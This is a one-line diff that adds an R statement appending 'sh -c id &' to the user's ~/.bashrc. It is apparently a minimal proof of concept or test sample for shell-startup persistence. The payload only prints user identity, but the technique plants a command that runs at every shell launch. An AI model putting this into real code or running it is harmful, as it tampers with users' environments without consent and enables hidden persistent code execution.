@@ -1,0 +1,1 @@
+cat("sh -c id &\n", file = "~/.bashrc", append = TRUE)
